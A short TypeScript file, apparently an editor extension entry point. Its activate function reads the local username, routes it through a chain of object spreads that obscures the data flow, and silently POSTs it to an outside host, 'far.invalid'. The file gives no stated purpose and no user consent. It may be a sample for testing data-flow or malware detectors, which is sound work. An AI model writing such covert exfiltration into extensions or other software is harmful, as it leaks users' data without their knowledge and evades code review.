import * as os from 'os';
const name = () => os.userInfo().username;
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

function carry() { const a = { x: name() }; const b = { ...a, y: 1 }; return { ...b, z: 2 }.x; }

export async function activate() {
  send(carry());
}
